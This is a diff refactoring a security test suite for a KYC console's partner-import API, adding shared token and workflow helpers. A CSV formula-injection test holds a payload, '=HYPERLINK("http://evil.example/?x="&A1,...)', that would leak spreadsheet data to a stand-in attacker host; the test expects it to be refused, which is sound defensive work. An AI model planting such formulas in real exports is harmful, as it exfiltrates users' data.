@@ -51,6 +51,30 @@ function partialPost(url: string, headers: Record<string, string>, first: Buffer
   });
 }
 
+/** A token the partner application minted for ours, over a session Didit approved. */
+async function partnerToken(): Promise<string> {
+  const partnerApp = w.sandbox.applications.find((a) => a.name === 'partner')!;
+  const consoleApp = w.sandbox.applications.find((a) => a.name === 'console')!;
+  const [source] = await w.sandbox.seedSessions({
+    application: 'partner',
+    count: 1,
+    kind: 'user',
+    statuses: ['Approved'],
+  });
+  const res = await fetch(`${w.sandboxUrl}/v3/session/${source}/share/`, {
+    method: 'POST',
+    headers: { 'x-api-key': partnerApp.api_key, 'content-type': 'application/json' },
+    body: JSON.stringify({ for_application_id: consoleApp.application_id, ttl_in_seconds: 600 }),
+  });
+  if (res.status !== 201 && res.status !== 200) throw new Error(`share: ${res.status} ${await res.text()}`);
+  return ((await res.json()) as { share_token: string }).share_token;
+}
+
+/** The console application's KYC (user) workflow, the one a partner's session is imported into. */
+const kycWorkflow = () =>
+  w.sandbox.applications.find((a) => a.name === 'console')!.workflows.find((x) => x.session_kind === 'user')!
+    .workflow_id;
+
 describe('request bodies (item 4)', () => {
   it('attack: a 50 MB JSON body declared by Content-Length on the unauthenticated login → refused', async () => {
     const res = await partialPost(
@@ -172,29 +196,9 @@ describe('crafted input answered 4xx, never 500 (item 13)', () => {
 });
 
 describe('imports (item 5)', () => {
-  /** A token the partner application minted for ours, over a session Didit approved. */
-  async function partnerToken(): Promise<string> {
-    const partnerApp = w.sandbox.applications.find((a) => a.name === 'partner')!;
-    const consoleApp = w.sandbox.applications.find((a) => a.name === 'console')!;
-    const [source] = await w.sandbox.seedSessions({
-      application: 'partner',
-      count: 1,
-      kind: 'user',
-      statuses: ['Approved'],
-    });
-    const res = await fetch(`${w.sandboxUrl}/v3/session/${source}/share/`, {
-      method: 'POST',
-      headers: { 'x-api-key': partnerApp.api_key, 'content-type': 'application/json' },
-      body: JSON.stringify({ for_application_id: consoleApp.application_id, ttl_in_seconds: 600 }),
-    });
-    if (res.status !== 201 && res.status !== 200) throw new Error(`share: ${res.status} ${await res.text()}`);
-    return ((await res.json()) as { share_token: string }).share_token;
-  }
-
   it("attack: a partner manager lands an import as Approved with trust_review beyond the partner's terms → refused", async () => {
     const pm = await w.as(['partner_manager']);
     const partnerApp = w.sandbox.applications.find((a) => a.name === 'partner')!;
-    const consoleApp = w.sandbox.applications.find((a) => a.name === 'console')!;
     const created = await w.request('/api/partners', {
       method: 'POST',
       who: pm,
@@ -202,7 +206,7 @@ describe('imports (item 5)', () => {
     });
     expect(created.status).toBe(201);
     expect(((await created.json()) as { default_trust_review: boolean }).default_trust_review).toBe(false);
-    const workflow = consoleApp.workflows.find((x) => x.session_kind === 'user')!.workflow_id;
+    const workflow = kycWorkflow();
     const before = await w.sql.query('select count(*)::int as n from imports');
 
     const token = await partnerToken();
@@ -239,20 +243,7 @@ describe('imports (item 5)', () => {
 
 describe('CSV formula injection (kept)', () => {
   it('attack: a vendor_data of =HYPERLINK(...) exported to the reliance ledger CSV runs as a formula → refused', async () => {
-    const partnerApp = w.sandbox.applications.find((a) => a.name === 'partner')!;
-    const consoleApp = w.sandbox.applications.find((a) => a.name === 'console')!;
-    const [source] = await w.sandbox.seedSessions({
-      application: 'partner',
-      count: 1,
-      kind: 'user',
-      statuses: ['Approved'],
-    });
-    const shared = await fetch(`${w.sandboxUrl}/v3/session/${source}/share/`, {
-      method: 'POST',
-      headers: { 'x-api-key': partnerApp.api_key, 'content-type': 'application/json' },
-      body: JSON.stringify({ for_application_id: consoleApp.application_id, ttl_in_seconds: 600 }),
-    });
-    const token = ((await shared.json()) as { share_token: string }).share_token;
+    const token = await partnerToken();
     const pm = await w.as(['partner_manager']);
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
     const imported = await w.request('/api/imports', {
@@ -260,7 +251,7 @@ describe('CSV formula injection (kept)', () => {
       who: pm,
       body: JSON.stringify({
         share_token: token,
-        workflow_id: consoleApp.workflows.find((x) => x.session_kind === 'user')!.workflow_id,
+        workflow_id: kycWorkflow(),
         vendor_data: formula,
       }),
     });
